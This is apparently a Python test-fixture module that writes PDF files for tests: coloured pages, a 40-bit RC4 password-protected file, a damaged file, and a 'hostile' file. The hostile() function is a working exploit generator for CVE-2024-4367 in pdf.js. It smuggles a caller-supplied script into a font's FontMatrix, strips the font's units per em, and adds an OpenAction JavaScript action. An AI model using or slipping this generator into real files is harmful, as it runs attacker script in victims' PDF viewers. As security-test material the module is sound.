"""PDF files: ordinary, long, protected, damaged and hostile ones."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

Color = tuple[int, int, int]
PADDING = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")


def library() -> Path:
    """Returns the folder of pdf.js: the one in PDFJS, or else the one of Debian's package."""
    folder = Path(os.environ.get("PDFJS") or "/usr/share/javascript/pdf")
    assert (folder / "build/pdf.js").is_file(), "libjs-pdf is not installed, and PDFJS names no folder"
    return folder


def stream(content: bytes, entries: str = "") -> bytes:
    return f"<<{entries}/Length {len(content)}>>stream\n".encode() + content + b"\nendstream"


def written(path: Path, objects: list[bytes], trailer: str = "") -> Path:
    """Writes objects 1, 2, 3 and so on; the first one is the catalog."""
    file = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, content in enumerate(objects, 1):
        offsets.append(len(file))
        file += f"{number} 0 obj\n".encode() + content + b"\nendobj\n"
    table = len(file)
    file += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    file += b"".join(f"{offset:010} 00000 n \n".encode() for offset in offsets)
    file += f"trailer <</Size {len(objects) + 1}/Root 1 0 R{trailer}>>\nstartxref\n{table}\n%%EOF\n".encode()
    path.write_bytes(file)
    return path


def pages(contents: list[bytes]) -> list[bytes]:
    """Returns the objects of a document with these pages. Their text is in Helvetica, which the document does not contain."""
    first = 4
    kids = " ".join(f"{first + 2 * at} 0 R" for at in range(len(contents)))
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        f"<</Type/Pages/Count {len(contents)}/Kids[{kids}]>>".encode(),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    for at, content in enumerate(contents):
        own = f"/Resources<</Font<</F 3 0 R>>>>/Contents {first + 2 * at + 1} 0 R"
        objects += [f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 300]{own}>>".encode(), stream(content)]
    return objects


def colored(color: Color, text: str = "") -> bytes:
    """Returns the content of a page that is filled with a color."""
    fill = " ".join(f"{part / 255:.4f}" for part in color)
    return f"{fill} rg 0 0 200 300 re f 0 g BT /F 36 Tf 20 240 Td ({text}) Tj ET".encode()


def document(path: Path, colors: list[Color]) -> Path:
    return written(path, pages([colored(color, f"Page {at}") for at, color in enumerate(colors, 1)]))


def protected(path: Path, color: Color, password: str) -> Path:
    """Writes a PDF whose content is encrypted with a password (PDF 1.7, 7.6: 40 bits)."""
    user = (password.encode() + PADDING)[:32]
    identity, permissions = b"0123456789abcdef", (-4).to_bytes(4, "little", signed=True)
    owner = rc4(hashlib.md5(user).digest()[:5], user)
    key = hashlib.md5(user + owner + permissions + identity).digest()[:5]

    def encrypted(number: int, content: bytes) -> bytes:
        salted = hashlib.md5(key + number.to_bytes(3, "little") + bytes(2)).digest()[:10]
        return stream(rc4(salted, content))

    objects = pages([b""])
    objects[4] = encrypted(5, colored(color))
    check = rc4(key, PADDING)
    objects.append(f"<</Filter/Standard/V 1/R 2/P -4/O<{owner.hex()}>/U<{check.hex()}>>>".encode())
    return written(path, objects, f"/Encrypt {len(objects)} 0 R/ID[<{identity.hex()}><{identity.hex()}>]")


def rc4(key: bytes, content: bytes) -> bytes:
    box = list(range(256))
    other = 0
    for at in range(256):
        other = (other + box[at] + key[at % len(key)]) % 256
        box[at], box[other] = box[other], box[at]
    result = bytearray()
    at = other = 0
    for byte in content:
        at = (at + 1) % 256
        other = (other + box[at]) % 256
        box[at], box[other] = box[other], box[at]
        result.append(byte ^ box[(box[at] + box[other]) % 256])
    return bytes(result)


def hostile(path: Path, font: Path, script: str) -> Path:
    """Writes a PDF whose font has a script in its matrix (CVE-2024-4367). If pdf.js may evaluate strings, it runs the script when
    it paints a letter of the font as a path. Further scripts in the PDF would run when it is opened."""
    objects = pages([b"7 Tr BT /F 60 Tf 20 200 Td (A) Tj ET"])
    objects[0] = f"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS({script})>>>>".encode()
    matrix = f"[0.001 0 0 0.001 0 (0\\); {script}; //)]"
    objects[2] = (
        f"<</Type/Font/Subtype/TrueType/BaseFont/AAAAAA+Font/FirstChar 65/LastChar 65/Widths[600]/FontMatrix{matrix}"
        f"/Encoding/WinAnsiEncoding/FontDescriptor {len(objects) + 1} 0 R>>"
    ).encode()
    objects.append(
        f"<</Type/FontDescriptor/FontName/AAAAAA+Font/Flags 32/FontBBox[0 0 1000 1000]/ItalicAngle 0/Ascent 800/Descent -200"
        f"/CapHeight 700/StemV 80/FontFile2 {len(objects) + 2} 0 R>>".encode()
    )
    content = without_size(font.read_bytes())
    objects.append(stream(content, f"/Length1 {len(content)}"))
    return written(path, objects)


def without_size(font: bytes) -> bytes:
    """Returns a TrueType font without a number of units per em. pdf.js uses the matrix in the PDF only for such a font."""
    changed = bytearray(font)
    for entry in range(12, 12 + 16 * int.from_bytes(font[4:6], "big"), 16):
        if font[entry : entry + 4] == b"head":
            size = int.from_bytes(font[entry + 8 : entry + 12], "big") + 18
            changed[size : size + 2] = bytes(2)
            return bytes(changed)
    raise AssertionError("not a TrueType font")


def damaged(path: Path) -> Path:
    path.write_bytes(b"%PDF-1.7\nThis is not a PDF.\n" + bytes(range(256)) * 20)
    return path
